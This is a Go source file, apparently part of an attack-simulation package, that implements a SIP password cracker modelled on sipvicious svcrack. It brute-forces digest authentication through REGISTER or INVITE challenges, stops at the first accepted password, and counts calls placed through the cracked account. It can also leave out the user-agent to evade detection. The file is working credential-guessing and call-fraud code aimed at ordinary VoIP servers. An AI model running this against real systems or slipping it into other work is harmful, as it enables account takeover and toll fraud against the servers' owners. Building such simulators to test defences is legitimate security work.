package sim

import (
	"context"
	"fmt"
)

// Cracker guesses the password of one account like sipvicious svcrack:
// for each candidate it sends a REGISTER, takes the 401 challenge and
// answers it with a digest computed from the candidate.
type Cracker struct {
	Attack
	// Account is the extension under attack.
	Account string
	// Passwords are tried in order; the attack stops at the first 200.
	Passwords []string
	// Domain is the SIP domain (digest URI host); empty means the target IP.
	Domain string
	// UserAgent is sent in every request; empty means none, as a careful
	// attacker would do.
	UserAgent string
	// Method is REGISTER (default; svcrack) or INVITE: guessing through
	// the call challenge (407), dialling Number.
	Method string
	// Number is the number an INVITE guess dials; empty means
	// "00441632960123".
	Number string
}

// Run tries the passwords and reports the answers; Found holds the
// password that got 200, if any. It stops early when the target goes
// silent or ctx ends.
func (c Cracker) Run(ctx context.Context) (AttackReport, error) {
	t := newTally("cracker", c.Attack)
	p, err := newPeer(ctx, c.Source, c.Target)
	if err != nil {
		return t.done(), err
	}
	defer p.Close()
	domain := domainOr(c.Domain, c.Target)
	method, uri, to := "REGISTER", "sip:"+domain, c.Account
	if c.Method == "INVITE" {
		to = c.Number
		if to == "" {
			to = "00441632960123"
		}
		method, uri = "INVITE", "sip:"+to+"@"+domain
	}
	callID := randHex(12)
	cseq := 0
	for _, pw := range c.Passwords {
		cseq++
		if method == "INVITE" {
			callID = randHex(12) // a new call per guess
		}
		req := rawRequest{Method: method, URI: uri, FromUser: c.Account, ToUser: to,
			Domain: domain, UserAgent: c.UserAgent, CallID: callID, CSeq: cseq}
		res, err := p.exchange(ctx, req, c.timeout())
		code := statusCode(res)
		stop, fatal := t.record(code, err)
		if fatal != nil {
			return t.done(), fatal
		}
		if stop {
			break
		}
		if code == 401 || code == 407 {
			auth, err := authorization(res, method, uri, c.Account, pw)
			if err != nil {
				return t.done(), fmt.Errorf("sim: cracker: %w", err)
			}
			cseq++
			req.CSeq, req.Extra = cseq, []string{auth}
			res, err = p.exchange(ctx, req, c.timeout())
			code = statusCode(res)
			stop, fatal = t.record(code, err)
			if fatal != nil {
				return t.done(), fatal
			}
			if code == 200 {
				t.r.Found = append(t.r.Found, pw)
				if method == "INVITE" {
					t.r.Connected++
				}
				break
			}
			if stop {
				break
			}
		}
		if !pause(ctx, c.Interval) {
			break
		}
	}
	return t.done(), nil
}
